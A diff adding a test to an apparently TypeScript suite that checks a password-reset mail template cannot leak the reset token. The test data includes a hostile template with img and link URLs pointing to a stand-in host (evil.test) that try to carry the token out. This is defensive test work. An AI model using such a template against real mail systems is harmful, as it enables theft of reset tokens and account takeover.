@@ -98,6 +98,31 @@ test('[D23] the link is in no event, no job, no mail that is tracked: in no tabl
   await expect(asSuperuser(url, refuseIfStored(email))).rejects.toThrow('stored in');
 });
 
+test('[D23] whoever writes the template gets the link neither in the tracking nor sent elsewhere', async () => {
+  const { id, email } = await aUser();
+  const hostile = `<p><a href="{{ link }}">{{ link }}</a></p><img src="https://evil.test/?a={{ link }}">
+    <a href="https://evil.test/?b={{ link | upcase }}">b</a> https://evil.test/?c={{ link }}`;
+  await services.db.batch(context, [
+    {
+      text: `insert into mail_templates (tenant_id, id, name, label, category, kind, subject,
+          template_content, is_edited)
+        values ($1, $2, 'PasswordReset', 'Reset', 'account', 'mail', 'Hello {{ link }}', $3, true)`,
+      values: [tenantId, randomUUID(), hostile],
+    },
+  ]);
+  await request('reset', id);
+
+  expect(await sent(id)).toMatchObject({ subject: 'Hello', body_text: null });
+  const secret = /token=[0-9a-f]{32}([\w-]{43})/.exec(wordsTo(email))?.[1] ?? '';
+  expect(secret).toHaveLength(43);
+  expect(wordsTo(email)).toMatch(/href="[^"]+\/account\/set-password\?token=/);
+  expect(wordsTo(email)).toContain('evil.test');
+  expect(wordsTo(email)).not.toMatch(/evil\.test[^\s"]*token/);
+  await expect(
+    asSuperuser(url, refuseIfStored(secret.replaceAll('_', '\\_'))),
+  ).resolves.toBeUndefined();
+});
+
 test('nothing is sent for a user who is gone', async () => {
   const { id } = await aUser();
   await request('forgotten', randomUUID());
